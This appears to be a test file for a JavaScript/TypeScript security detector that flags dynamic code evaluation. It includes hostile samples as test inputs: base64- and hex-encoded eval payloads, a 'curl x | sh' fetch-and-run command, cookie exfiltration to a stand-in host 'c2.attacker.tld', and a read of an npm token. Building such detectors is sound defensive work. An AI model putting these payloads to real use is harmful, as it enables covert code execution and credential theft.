import { dynamicCode } from './dynamic-code';
import { DETECTORS } from './index';
import { runDetector } from '../../test-support/run-detector';

runDetector(dynamicCode, {
  valid: [
    () => {
      const evaluate = (s: string): string => s;
      const eval2 = evaluate;
      return eval2('1');
    },
    'function f(eval) { eval("x") }',
    'const Function = class {}; new Function("x")',
    'if (typeof eval !== "undefined") {}',
    'setTimeout(() => run(), 10); setInterval(tick, 5)',
    'x instanceof Function',
    'Function.prototype.toString.call(f)',
  ],
  invalid: [
    { code: 'eval("1 + 1")', capabilities: ['code-eval'], apis: ['eval'] },
    { code: '(0, eval)(src)', capabilities: ['code-eval'] },
    { code: 'window.eval(src)', capabilities: ['code-eval'] },
    { code: 'const e = eval; e(src)', capabilities: ['code-eval'] },
    { code: 'new Function("a", "return a")', capabilities: ['code-eval'], apis: ['Function'] },
    { code: 'Function("return this")()', capabilities: ['code-eval'] },
    { code: 'Function.apply(null, ["return 1"])', capabilities: ['code-eval'], apis: ['Function.apply'] },
    { code: '[].constructor.constructor("return process")()', capabilities: ['code-eval'], apis: ['constructor.constructor'] },
    { code: 'const vm = require("vm"); vm.runInThisContext(code)', capabilities: ['code-eval'], apis: ['vm.runInThisContext'] },
    { code: 'import { Script } from "node:vm"; new Script(code)', capabilities: ['code-eval'] },
    { code: 'const m = new module.constructor(); m._compile(src, "x")', capabilities: ['code-eval'] },
    { code: 'module._compile(src, "x")', capabilities: ['code-eval'], apis: ['module._compile'] },
    { code: 'setTimeout("alert(1)", 10)', capabilities: ['code-eval'], apis: ['setTimeout(string)'] },
    { code: 'Reflect.construct(Function, ["return 1"])', capabilities: ['code-eval'] },
  ],
});

describe('decode-then-eval payloads', () => {
  runDetector(
    dynamicCode,
    {
      valid: [],
      invalid: [
        {
          name: 'base64 payload re-parsed: its child_process use is reported, and the decoding is obfuscation',
          code: `eval(Buffer.from('${Buffer.from('require("child_process").exec("curl x | sh")').toString('base64')}', 'base64').toString())`,
          capabilities: ['code-eval', 'child-process', 'obfuscation'],
          apis: ['child_process.exec', 'decoded-payload'],
        },
        {
          name: 'atob payload into new Function',
          code: `new Function(atob('${Buffer.from('fetch("https://c2.attacker.tld/x?d=" + document.cookie)').toString('base64')}'))()`,
          capabilities: ['code-eval', 'network', 'url-literals', 'obfuscation'],
          apis: ['host:c2.attacker.tld'],
        },
        {
          name: 'hex payload via a helper function, into vm',
          code: `const d = (h) => Buffer.from(h, 'hex').toString(); require('vm').runInThisContext(d('${Buffer.from('process.env.NPM_TOKEN').toString('hex')}'))`,
          capabilities: ['code-eval', 'env-read'],
          apis: ['process.env.NPM_TOKEN'],
        },
        {
          name: 'nested payloads stop at a bounded depth without error',
          code: 'eval("eval(\\"eval(\\\\\\"eval(1)\\\\\\")\\")")',
          capabilities: ['code-eval'],
        },
      ],
    },
    DETECTORS,
  );
});
